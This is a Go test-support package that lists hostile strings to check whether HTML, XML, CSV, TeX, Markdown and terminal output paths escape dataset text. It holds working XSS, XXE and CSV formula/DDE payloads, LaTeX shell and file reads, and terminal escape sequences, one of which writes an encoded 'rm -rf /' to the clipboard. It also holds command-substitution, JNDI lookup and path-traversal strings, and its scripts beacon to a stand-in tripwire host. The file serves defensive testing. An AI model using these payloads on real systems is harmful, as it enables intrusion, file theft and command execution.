// Package hostile holds texts that a dataset might carry to harm who looks
// at it, and the checks of what came out: would a browser, a spreadsheet, a
// terminal, a typesetter act on it?
//
// A test of an output path puts every text of [Texts] where the path takes
// one, and hands what comes out to [HTML], [XML], [CSV], [TeX], [Terminal]
// or [Markdown]. Only tests need this package.
package hostile

import "strings"

// A Text is one of them and what it tries.
type Text struct {
	Name string
	Text string
}

// Tripwire is the host that every active text asks, and Tripped the title
// that every script sets: a browser that was not protected leaves a trace
// of the one or the other.
const (
	Tripwire = "tripwire.invalid"
	Tripped  = "TRIPPED"
)

// act is what the scripts do.
const act = `document.title='` + Tripped + `';new Image().src='http://` + Tripwire + `/script'`

// all texts, by what they aim at. None is longer than a line but the last.
var texts = []Text{
	// Scripts and handlers in HTML.
	{"script", `<script>` + act + `</script>`},
	{"script in upper case", `<SCRIPT>` + act + `</SCRIPT>`},
	{"script from elsewhere", `<script src=http://` + Tripwire + `/x.js></script>`},
	{"script behind a comment", `--><script>` + act + `</script>`},
	{"script behind CDATA", `]]><script>` + act + `</script>`},
	{"script behind a title", `</title><script>` + act + `</script>`},
	{"script behind a text area", `</textarea><script>` + act + `</script>`},
	{"script behind pre and code", `</code></pre><script>` + act + `</script>`},
	{"script behind style", `</style><script>` + act + `</script>`},
	{"script that never ends", `<script>` + act + `//`},
	{"image with a handler", `<img src=x onerror="` + act + `">`},
	{"image out of an attribute", `"><img src=x onerror=` + `document.title='` + Tripped + `'>`},
	{"image out of a quoted attribute", `'><img src=x onerror="` + act + `">`},
	{"handler in an attribute", `" onmouseover="` + act + `" autofocus onfocus="` + act + `" x="`},
	{"svg with a handler", `<svg onload="` + act + `">`},
	{"svg behind a text", `</text></svg><svg onload="` + act + `">`},
	{"svg with a script", `<svg><script>` + act + `</script></svg>`},
	{"foreign object", `<svg><foreignObject><img src=x onerror="` + act + `"></foreignObject></svg>`},
	{"animated link", `<svg><a xlink:href="#"><animate attributeName="href" values="javascript:` + act + `"/><text>x</text></a></svg>`},
	{"mathml confusion", `<math><mtext></form><form><mglyph><style></math><img src onerror="` + act + `">`},
	{"noscript confusion", `<noscript><p title="</noscript><img src=x onerror=` + `document.title='` + Tripped + `'>">`},
	{"template", `<template><script>` + act + `</script></template>{{constructor.constructor('` + Tripped + `')()}}`},
	{"details that open", `<details open ontoggle="` + act + `"><summary>x</summary></details>`},
	{"body with a handler", `<body onload="` + act + `">`},
	{"plaintext", `<plaintext>`},
	{"entity-encoded script", `&lt;script&gt;` + act + `&lt;/script&gt;`},
	{"numeric entities", `&#60;img src=x onerror=&#34;` + act + `&#34;&#62;`},
	{"processing instruction", `<?xml-stylesheet href="http://` + Tripwire + `/x.css"?>`},
	{"doctype with an entity", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`},

	// What loads or leads elsewhere without a script.
	{"image from elsewhere", `<img src="http://` + Tripwire + `/i.png">`},
	{"frame", `<iframe src="http://` + Tripwire + `/f"></iframe>`},
	{"frame of its own", `<iframe srcdoc="&lt;script&gt;parent.document.title='` + Tripped + `'&lt;/script&gt;"></iframe>`},
	{"object", `<object data="http://` + Tripwire + `/o"></object>`},
	{"stylesheet", `<link rel=stylesheet href="http://` + Tripwire + `/s.css">`},
	{"style", `<style>@import "http://` + Tripwire + `/s.css"; body{display:none}</style>`},
	{"style attribute", `<b style="position:fixed;inset:0;background:url(http://` + Tripwire + `/b)">x</b>`},
	{"base", `<base href="http://` + Tripwire + `/">`},
	{"refresh", `<meta http-equiv=refresh content="0;url=http://` + Tripwire + `/r">`},
	{"form", `<form action="http://` + Tripwire + `/p"><input name=q autofocus><button>Sign in</button></form>`},
	{"video", `<video src="http://` + Tripwire + `/v" autoplay></video>`},
	{"script link", `<a href="javascript:` + act + `">x</a>`},
	{"script link in disguise", `<a href=" java&#10;script:` + act + `">x</a>`},
	{"data link", `<a href="data:text/html,<script>` + act + `</script>">x</a>`},

	// Markdown.
	{"markdown link", `[x](javascript:` + act + `)`},
	{"markdown link in mixed case", `[x](JaVaScRiPt:alert)`},
	{"markdown image", `![x](http://` + Tripwire + `/m.png)`},
	{"markdown reference", `[x][y] [y]: http://` + Tripwire + `/ref`},
	{"markdown autolink", `<http://` + Tripwire + `/auto>`},
	{"markdown code end", "`</code><script>" + act + "</script>`"},
	{"table cell end", `a|b||c\|d`},

	// Spreadsheets.
	{"formula", `=HYPERLINK("http://` + Tripwire + `/h","x")`},
	{"formula with plus", `+1+cmd|'/C calc'!A0`},
	{"formula with minus", `-2+3+cmd|'/C calc'!A0`},
	{"formula with at", `@SUM(1+1)*cmd|'/C calc'!A0`},
	{"formula behind a tab", "\t=1+1"},
	{"formula behind a return", "\r=1+1"},
	{"formula behind a space", ` =1+1`},
	{"formula in quotes", `"=1+1"`},
	{"formula behind a separator", `x,=1+1;=2+2`},
	{"formula in full width", "\uff1d1+1"},
	{"formula behind an invisible sign", "\u200b=1+1"},
	{"DDE", `=DDE("cmd";"/C calc";"x")`},

	// LaTeX.
	{"tex input", `$\input{/etc/passwd}$`},
	{"tex shell", `\immediate\write18{touch /tmp/tripped}`},
	{"tex read", `\newread\f\openin\f=/etc/passwd\read\f to\x\x`},
	{"tex catcode", `\catcode92=12^^5cinput{/etc/passwd}`},
	{"tex end", `\end{document}\end{tikzpicture}}}`},
	{"tex specials", `100% #1 & a_b ^ ~ {x} \y $z$ <<>> "|`},

	// Terminals.
	{"colour", "\x1b[31;5mred\x1b[0m"},
	{"screen cleared", "\x1b[2J\x1b[H"},
	{"title set", "\x1b]0;evil\x07"},
	{"hyperlink", "\x1b]8;;http://" + Tripwire + "/t\x1b\\click\x1b]8;;\x1b\\"},
	{"clipboard written", "\x1b]52;c;cm0gLXJmIC8=\x07"},
	{"answer asked", "\x1b[6n\x1bP$q\"p\x1b\\"},
	{"eight-bit escape", "\u009b31mred\u009d0;x\u009c"},
	{"line overwritten", "evil\rgood"},
	{"backspaces", "evil\b\b\b\bgood"},
	{"bell and NUL", "a\x07b\x00c"},

	// Text itself.
	{"direction turned", "user\u202etxt.exe\u202c \u2066x\u2069"},
	{"invisible signs", "pay\u200bpal\u2060\ufeff\u00ad"},
	{"line separators", "a\u2028b\u2029c\u0085d\x0be\x0cf"},
	{"tag characters", "x\U000e0041\U000e0042\U000e007f"},
	{"invalid UTF-8", "a\xff\xfe\xc0\x80b\xed\xa0\x80"},
	{"not a character", "x\ufffe\uffff\U0001fffe"},
	{"stacked marks", "e" + strings.Repeat("\u0301", 200)},
	{"format directives", `%s%n%d%!x(EXTRA) {{.}} ${jndi:ldap://` + Tripwire + `/j} $(touch /tmp/tripped)` + " `id`"},
	{"path", `../../../../etc/passwd`},
	{"looks like a number", `NaN`},
	{"lines", "one\ntwo\r\n\r\n# three\n---\n| four |"},
	{"a long line", strings.Repeat("long ", 1<<18)},
}

// Texts are all of them, in a fixed order; the caller may keep the slice.
func Texts() []Text { return append([]Text(nil), texts...) }

// Strings are the texts alone.
func Strings() []string {
	all := make([]string, len(texts))
	for i, t := range texts {
		all[i] = t.Text
	}
	return all
}
